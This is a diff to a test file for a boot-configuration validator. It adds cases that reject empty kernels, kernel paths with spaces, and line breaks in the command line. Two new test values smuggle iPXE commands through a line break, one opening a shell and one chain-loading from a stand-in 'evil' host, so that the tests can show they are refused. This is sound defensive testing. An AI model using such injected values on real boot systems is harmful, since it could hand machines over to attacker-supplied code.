@@ -10,7 +10,11 @@ test('a minimal boot config gets empty initrd and cmdline', (t) => {
 const broken: [string, string, RegExp][] = [
   ['not JSON', '{"kernel": ', /not valid JSON/],
   ['no kernel', '{"initrd": []}', /kernel/],
-  ['empty kernel', '{"kernel": " "}', /kernel: kernel must name/],
+  ['empty kernel', '{"kernel": " "}', /kernel: kernel is empty/],
+  ['a kernel URL with a space', '{"kernel": "/images/my kernel"}', /kernel must not contain spaces/],
+  ['a line break in the cmdline (would inject iPXE commands)', '{"kernel": "k", "cmdline": "quiet\\nshell"}', /cmdline must not contain line breaks/],
+  ['a line break in a cmdline value', '{"kernel": "k", "cmdline": {"a": "1\\nchain http://evil/"}}', /line breaks/],
+  ['a cmdline key with =', '{"kernel": "k", "cmdline": {"a=b": "1"}}', /cmdline key/],
   ['initrd not a list', '{"kernel": "k", "initrd": "i"}', /initrd/],
   ['cmdline number', '{"kernel": "k", "cmdline": 3}', /cmdline must be a string or an object/],
   ['cmdline flag false', '{"kernel": "k", "cmdline": {"quiet": false}}', /cmdline/],
